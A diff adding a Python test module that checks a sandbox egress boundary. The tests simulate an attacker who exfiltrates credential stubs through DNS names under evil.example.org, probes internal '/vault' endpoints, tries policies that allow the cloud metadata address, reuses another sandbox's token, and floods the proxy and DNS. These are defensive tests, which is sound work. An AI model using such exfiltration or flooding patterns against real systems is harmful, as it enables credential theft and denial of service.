@@ -1,0 +1,292 @@
+"""Below and beside HTTP: other protocols, names, neighbours, and rules that change while something is under way."""
+
+import json
+import threading
+import time
+
+from boundary.cases import A, AUTH, B, B_SEEN, E, OTHER, BoundaryTest, Case, add_cases, get
+from boundary.internet import HOSTS
+from boundary.world import BINDINGS, POLICY, Attacker, enter, random_secret
+from pons_fixture import UnixConnection, read_text, wait_for
+from sandbox_world import rss_bytes
+from warden_client import Refused
+
+MIB = 1 << 20
+
+
+def setUpModule():
+    enter()
+
+
+class Network(BoundaryTest):
+    """No packet leaves but through the boundary."""
+
+    def names_asked(self):
+        return read_text(f"{self.world.directory}/names.log").splitlines()
+
+    def test_no_datagram_leaves(self):
+        for port in (443, 3478, 51820, 123):
+            for address in (HOSTS[E], HOSTS[A], "127.0.0.1", "2606:2800:220:1::1"):
+                answer = self.attacker.ask(work="datagram", host=address, port=port, payload="hello")
+                self.assertEqual(answer.data, b"", (address, port))
+
+    def test_no_name_that_is_not_allowed_is_looked_up(self):
+        before = self.names_asked()
+        stub = self.stubs["OTHER_KEY"]
+        for name in (f"{stub}.evil.example.org", "a" * 63 + "." + "b" * 63 + ".example.org", "x.attacker.example.org",
+                     "api.github.com.example.org", "xapi.github.com"):
+            for kind in (1, 28, 16, 10, 255, 65, 5, 15, 33):
+                for server in ("127.0.0.1", "8.8.8.8", HOSTS[E]):
+                    answer = self.attacker.ask(work="lookup", host=name, kind=kind, server=server)
+                    self.assertEqual(answer.data[3] & 15, 3, (name, kind))  # no such name
+        self.assertEqual(self.names_asked(), before)
+        events, _ = self.settle()
+        text = json.dumps(events)
+        self.assertNotIn(stub.lower(), text.lower(), "a stub is in the audit log")
+
+    def test_an_allowed_name_has_only_addresses(self):
+        before = len(self.names_asked())
+        for kind in (16, 15, 65, 64, 33, 255):
+            self.attacker.ask(work="lookup", host=A, kind=kind)
+        self.assertEqual(len(self.names_asked()), before)
+
+    def test_nobody_can_take_the_ports_of_the_way_out(self):
+        job = self.sandbox.run(
+            "python3 - <<'END'\n"
+            "import socket\n"
+            "for family, address in ((socket.AF_INET, '0.0.0.0'), (socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::'), (socket.AF_INET6, '::1')):\n"
+            "    for kind, port in ((socket.SOCK_STREAM, 3128), (socket.SOCK_DGRAM, 53)):\n"
+            "        for options in ((), (socket.SO_REUSEADDR,), (socket.SO_REUSEPORT,), (socket.SO_REUSEADDR, socket.SO_REUSEPORT)):\n"
+            "            with socket.socket(family, kind) as s:\n"
+            "                for option in options: s.setsockopt(socket.SOL_SOCKET, option, 1)\n"
+            "                try:\n"
+            "                    s.bind((address, port))\n"
+            "                    if kind == socket.SOCK_STREAM: s.listen()\n"
+            "                    print('taken', address, port, options)\n"
+            "                except OSError as error:\n"
+            "                    pass\n"
+            "END")
+        self.assertEqual(job.text, "", job)
+
+    def test_roles_are_not_in_reach(self):
+        for host in ("tools.pons.internal", "gateway.pons.internal"):
+            for path in ("/status", "/sandboxes", "/vault", "/vault/GITHUB_TOKEN", "/explain", "/scan", "/audit", "/environments",
+                         "/self-test", "/stop", "/shutdown", "/jobs"):
+                for method in ("GET", "PUT", "POST", "DELETE"):
+                    answer = self.attacker.ask(way="direct", host=host, port=80,
+                                               payload=get(path, host=host, method=method, body="{}" if method != "GET" else ""))
+                    self.assertIn(answer.status, (404, 405, 403), (host, path, method, answer))
+        self.settle()
+
+    def test_addresses_of_the_way_out_itself_lead_nowhere(self):
+        for address, port in (("198.18.0.1", 443), ("198.19.255.254", 80), ("127.0.0.1", 53), ("0.0.0.0", 80)):
+            with self.subTest(address):
+                self.attacker.ask(way="direct", host=address, port=port, payload=get("/x", host=address))
+        _, requests = self.settle()
+        self.assertEqual(requests, [])
+
+
+def raw(name, payload, port, host=HOSTS[E], **more):
+    return Case(name, payload, "closed", host=host, port=port, tls=False, ways=("direct",), **more)
+
+
+add_cases(Network, [
+    raw("N02 SSH", "SSH-2.0-x\r\n", 22), raw("N02 SMTP", "EHLO x\r\n", 25), raw("N02 Redis", "*1\r\n$4\r\nPING\r\n", 6379),
+    raw("N02 Postgres", "\0\0\0\x08\x04\xd2\x16\x2f", 5432), raw("N02 bytes on the port of TLS", "\x16\x03\x01\xff\xff" + "x" * 100, 443),
+    raw("N02 an allowed host on another port", "SSH-2.0-x\r\n", 22, host=A), raw("N13 bytes that are nothing", "\0" * 100, 443, host=A),
+    Case("a rule for bytes lets bytes pass", "hello\n", "welcome", host=B, port=9000, tls=False, more={"seconds": 1}),
+    Case("a rule for bytes of one port opens no other", "hello\n", "closed", host=B, port=9001, tls=False, ways=("direct",)),
+])
+Network.check_welcome = lambda self, case, answer, events, requests: self.assertIn(b"welcome\n", answer.data)
+
+
+class Changes(BoundaryTest):
+    """Rules and credentials that change while requests are under way."""
+
+    def egress(self, method, target, body):
+        connection = UnixConnection(f"{self.world.pons.state_dir}/run/egress.sock")
+        connection.request(method, target, body=json.dumps(body))
+        response = connection.getresponse()
+        text = response.read()
+        connection.close()
+        return response.status, text
+
+    def follow(self, host, path, credential=None, field=AUTH):
+        """A stream that goes on, read by another program in the sandbox."""
+        fields = [self.fill(field, credential)] if credential else []
+        attacker = Attacker(self.sandbox)
+        answer = []
+        work = threading.Thread(target=lambda: answer.append(
+            attacker.ask(way="direct", host=host, port=443, tls=True, until_closed=True, seconds=30,
+                         payload=get(path, *fields, host=host))))
+        before = self.world.internet.count
+        work.start()
+
+        def begun():
+            with open(f"{self.world.directory}/connections.jsonl", encoding="utf-8") as file:
+                return any(path in line for line in file.readlines()[before:])
+
+        wait_for(begun, "the stream begins")
+        time.sleep(0.3)
+        return work, answer
+
+    def assert_cut(self, work, answer):
+        work.join(20)
+        self.assertFalse(work.is_alive(), "it goes on")
+        self.assertIn(b"tick", answer[0].data)
+        self.assertNotIn(b"0\r\n\r\n", answer[0].data)
+
+    def test_a_stream_ends_with_its_credential(self):
+        old = self.world.secrets["OTHER_KEY"]
+        work, answer = self.follow(OTHER, "/wait/credential", "OTHER_KEY", "X-Api-Key: {S}")
+        self.assertEqual(self.world.pons.command("vault", "rm", "OTHER_KEY").returncode, 0)
+        self.assert_cut(work, answer)
+        # L15: without its value, the stub opens nothing.
+        gone = self.attacker.ask(way="direct", host=OTHER, port=443, tls=True,
+                                 payload=self.fill(get("/echo", "X-Api-Key: {S}", host=OTHER), "OTHER_KEY"))
+        self.assertIsNone(self.world.find_leak(gone.data))
+        self.world.set_secret("OTHER_KEY", old, BINDINGS["OTHER_KEY"])
+        events, _ = self.settle()
+        cut = [event for event in events if event["verdict"] == "cut"]
+        self.assertEqual([event["path"] for event in cut], ["/wait/credential"], events)
+
+    def test_a_rotated_credential_keeps_its_stub_and_both_values_are_scrubbed(self):
+        self.attacker.ask(way="direct", host=A, port=443, tls=True, payload=self.fill(get("/store", AUTH), "GITHUB_TOKEN"))
+        old, new = self.world.secrets["GITHUB_TOKEN"], random_secret("ghp_")
+        self.world.pons_with_input(new, "vault", "rotate", "GITHUB_TOKEN")
+        self.world.secrets.update({"GITHUB_TOKEN": new, "old": old})
+        self.world.forms.extend(self.world.forms_of(new))
+        for path in ("/stored", "/echo"):
+            answer = self.attacker.ask(way="direct", host=A, port=443, tls=True, payload=self.fill(get(path, AUTH), "GITHUB_TOKEN"))
+            self.assertEqual(answer.status, 200, answer)
+            self.assertIsNone(self.world.find_leak(answer.data), answer)
+        del self.world.secrets["old"]
+        self.settle()
+        received = open(self.world.internet.received_by(A)[0], "rb").read()
+        self.assertIn(new.encode(), received)
+
+    def test_a_tighter_policy_ends_what_it_no_longer_allows(self):
+        for host in (A, B):
+            with self.subTest(host):
+                work, answer = self.follow(host, f"/wait/{host}")
+                tighter = {**POLICY, "allow": [rule for rule in POLICY["allow"] if rule["host"] != host]}
+                self.assertEqual(self.egress("PUT", "/sandboxes/attacker/policy", {"policy": tighter})[0], 200)
+                self.assert_cut(work, answer)
+                gone = self.attacker.ask(way="connect", host=host, port=443, tls=True, payload=get("/x", host=host))
+                self.assertEqual(gone.code, "host_not_allowed")
+                self.assertEqual(self.egress("PUT", "/sandboxes/attacker/policy", {"environment": "web"})[0], 200)
+        self.settle()
+
+    def test_a_policy_that_cannot_be_read_changes_nothing(self):
+        for wrong in ({"mode": "list"}, {"mode": "list", "allow": []}, {"mode": "open"}, {"mode": "public", "alow": []}, {},
+                      {"mode": "list", "allow": "api.github.com"}, {"mode": "list", "allow": [{"host": "*.github.io"}]},
+                      {"mode": "list", "allow": [{"host": "169.254.169.254", "addresses": ["169.254.169.254"]}]},
+                      {"mode": "list", "allow": [{"host": A, "methods": []}]}):
+            status, text = self.egress("PUT", "/sandboxes/attacker/policy", {"policy": wrong})
+            self.assertEqual(status, 400, (wrong, text))
+            with self.assertRaises(Refused):
+                self.world.sandbox("wrong", {"policy": json.dumps(wrong)})
+        self.settle()
+
+    def test_a_stub_of_another_sandbox_opens_nothing(self):
+        other = self.world.sandbox("neighbour")
+        foreign = Attacker(other).environment["GITHUB_TOKEN"]
+        self.assertNotEqual(foreign, self.stubs["GITHUB_TOKEN"])
+        answer = self.attacker.ask(way="direct", host=A, port=443, tls=True, payload=get("/x", f"Authorization: Bearer {foreign}"))
+        self.assertEqual(answer.code, "foreign_credential", answer)
+        other.destroy()
+        self.settle()
+
+
+class Floods(BoundaryTest):
+    """One sandbox does its worst; another is served."""
+
+    def served(self, attacker, stub):
+        begun = time.monotonic()
+        answer = attacker.ask(way="direct", host=A, port=443, tls=True, payload=get("/x", f"Authorization: Bearer {stub}"), seconds=30)
+        self.assertEqual(answer.status, 200, answer)
+        return time.monotonic() - begun
+
+    def neighbour(self, name):
+        sandbox = self.world.sandbox(name)
+        self.addCleanup(sandbox.destroy)
+        attacker = Attacker(sandbox)
+        return attacker, attacker.environment["GITHUB_TOKEN"]
+
+    def egress_rss(self):
+        return rss_bytes(self.world.pons.role_pids()["egress"])
+
+    def flood(self, script):
+        """Started, not awaited."""
+        job = Attacker.__new__(Attacker)
+        job.lines = self.sandbox.start(f"python3 - <<'END'\n{script}\nEND", seconds=300)
+        next(job.lines)
+        return job.lines
+
+    def test_ten_thousand_connections_leave_the_neighbour_alone(self):
+        other, stub = self.neighbour("beside-connections")
+        quiet = self.served(other, stub)
+        before = self.egress_rss()
+        lines = self.flood(
+            "import resource, socket\n"
+            "resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)\n"
+            "held = []\n"
+            "print('begun', flush=True)\n"
+            "for i in range(10000):\n"
+            "    s = socket.socket(); s.setblocking(False)\n"
+            "    try: s.connect(('127.0.0.1', 3128))\n"
+            "    except BlockingIOError: pass\n"
+            "    except OSError: s.close(); continue\n"
+            "    try: s.send(b'GET http://plain.example.net/x HTTP/1.1\\r\\nHo')\n"
+            "    except OSError: pass\n"
+            "    held.append(s)\n"
+            "print(len(held), flush=True)\n"
+            "import time; time.sleep(3)\n")
+        next(lines)
+        times = [self.served(other, stub) for _ in range(20)]
+        grown = self.egress_rss() - before
+        list(lines)
+        print(f"\n10,000 connections: the neighbour waited {max(times) * 1000:.0f} ms at most, alone {quiet * 1000:.0f} ms; "
+              f"egress grew by {grown / MIB:.1f} MiB")
+        self.assertLess(grown, 100 * MIB)
+        # The 256 that were let in give way.
+        wait_for(lambda: self.knock_or_none(), "the flooder itself is served again", seconds=60, step=0.5)
+
+    def knock_or_none(self):
+        try:
+            return self.knock()
+        except AssertionError:
+            return None
+
+    def test_a_hundred_thousand_names_leave_the_neighbour_alone(self):
+        other, stub = self.neighbour("beside-names")
+        before, asked = self.egress_rss(), len(read_text(f"{self.world.directory}/names.log").splitlines())
+        lines = self.flood(
+            "import socket, struct\n"
+            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('127.0.0.1', 53)); s.setblocking(False)\n"
+            "print('begun', flush=True)\n"
+            "answers = 0\n"
+            "for i in range(100000):\n"
+            "    label = b'n%d' % i\n"
+            "    try: s.send(struct.pack('!HHHHHH', i & 65535, 256, 1, 0, 0, 0) + bytes([len(label)]) + label + b'\\4evil\\3org\\0\\0\\1\\0\\1')\n"
+            "    except OSError: pass\n"
+            "    try:\n"
+            "        s.recv(512); answers += 1\n"
+            "    except OSError: pass\n"
+            "print(answers, flush=True)\n")
+        next(lines)
+        times = [self.served(other, stub) for _ in range(20)]
+        list(lines)
+        grown = self.egress_rss() - before
+        print(f"\n100,000 names: the neighbour waited {max(times) * 1000:.0f} ms at most; egress grew by {grown / MIB:.1f} MiB")
+        names = read_text(f"{self.world.directory}/names.log").splitlines()[asked:]
+        self.assertEqual([name for name in names if "evil" in name], [])
+        self.assertLess(grown, 50 * MIB)
+        verified = self.world.pons.command("audit", "verify")
+        self.assertEqual(verified.returncode, 0, verified.stdout + verified.stderr)
+        events = self.world.events()
+        self.assertTrue(any(event["kind"] == "suppressed" for event in events), "the flood is written down in full")
+        self.assertLess(len(events), 50_000)
+
+
+del BoundaryTest  # or it would run by itself
